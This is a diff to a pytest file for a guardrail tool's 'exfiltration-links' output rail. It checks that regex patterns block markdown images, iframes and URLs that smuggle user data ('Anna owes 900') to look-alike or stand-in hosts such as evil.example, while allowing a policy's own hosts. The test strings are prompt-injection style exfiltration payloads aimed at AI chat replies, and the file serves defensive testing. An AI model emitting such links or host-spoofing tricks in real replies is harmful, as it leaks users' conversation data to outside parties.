@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 
 from guardlint.policy.documents import read_document
+from guardlint.policy.filling import filled
 from guardlint.policy.rails import load_rail
 from guardlint.resources import resource_dir
 
@@ -19,11 +20,17 @@ CANARY = "kestrel-0000-lantern"
 
 @cache
 def patterns(rail: str) -> list[re.Pattern[str]]:
-    """As NeMo compiles them, the canary set."""
-    options = load_rail(resource_dir("rails") / rail).directions["output"].config["regex_detection"]["output"]
+    """As NeMo compiles them, the canary set and all other settings as they are by default."""
+    return compiled(rail, {"canary": CANARY})
+
+
+def compiled(rail: str, chosen: dict[str, Any]) -> list[re.Pattern[str]]:
+    """The patterns with what a policy chose of the settings."""
+    read = load_rail(resource_dir("rails") / rail)
+    settings = {name: setting.default for name, setting in read.settings.items()} | chosen
+    options = filled(read.directions["output"].config, settings)["regex_detection"]["output"]
     assert options["case_insensitive"] is True
-    texts = [CANARY if isinstance(item, dict) else item for item in options["patterns"]]
-    return [re.compile(text, re.IGNORECASE) for text in texts]
+    return [re.compile(text, re.IGNORECASE) for text in options["patterns"]]
 
 
 @cache
@@ -104,3 +111,35 @@ def test_no_reply_makes_a_pattern_run_for_long(rail: str, unit: str) -> None:
     started = time.process_time()
     hits(rail, text)
     assert time.process_time() - started < 2.0
+
+
+OWN = {"own_hosts": ["bank.example", "cdn.example"]}
+
+
+@pytest.mark.parametrize(
+    ("chosen", "reply", "blocked"),
+    [
+        ({}, "![a](https://img.bank.example/a.png?d=Anna+owes+900)", True),
+        (OWN, "![a](https://img.bank.example/a.png?d=Anna+owes+900)", False),
+        (OWN, "![a](https://bank.example:8443?d=Anna+owes+900)", False),
+        (OWN, '<iframe src="https://bank.example/form"></iframe>', False),
+        (OWN, "https://bank.example/s?conversation=Anna-owes-900", False),
+        (OWN, "![a](https://bank.example.evil.example/a.png?d=Anna+owes+900)", True),
+        (OWN, "![a](https://notbank.example/a.png?d=Anna+owes+900)", True),
+        (OWN, "![a](https://bank.example@evil.example/a.png?d=Anna+owes+900)", True),
+        (OWN, "![a](https://bank.example:x@evil.example/a.png?d=Anna+owes+900)", True),
+        (OWN, "![a](https://evil.example/bank.example/a.png?d=Anna+owes+900)", True),
+        (OWN, "![a](https://evil.example/?u=//bank.example/&d=Anna+owes+900)", True),
+        (OWN, "![a](https://evil.example/logo.png)", False),
+        ({**OWN, "foreign_images": "block"}, "![a](https://evil.example/logo.png)", True),
+        ({**OWN, "foreign_images": "block"}, "![a][1]\n\n[1]: https://evil.example/logo.png", True),
+        ({**OWN, "foreign_images": "block"}, "<img src='//evil.example/logo.png'>", True),
+        ({**OWN, "foreign_images": "block"}, "![a](https://cdn.example/logo.png)", False),
+        ({**OWN, "foreign_images": "block"}, "![a](/static/logo.png) and https://evil.example/page", False),
+        ({"foreign_images": "block"}, "![a](https://cdn.example/logo.png)", True),
+    ],
+)
+def test_hosts_of_the_company(chosen: dict[str, Any], reply: str, blocked: bool) -> None:
+    """What a policy lists may carry anything; look-alikes, other users and paths of its name may not."""
+    found = [pattern.pattern for pattern in compiled("exfiltration-links", chosen) if pattern.search(reply)]
+    assert blocked == bool(found)
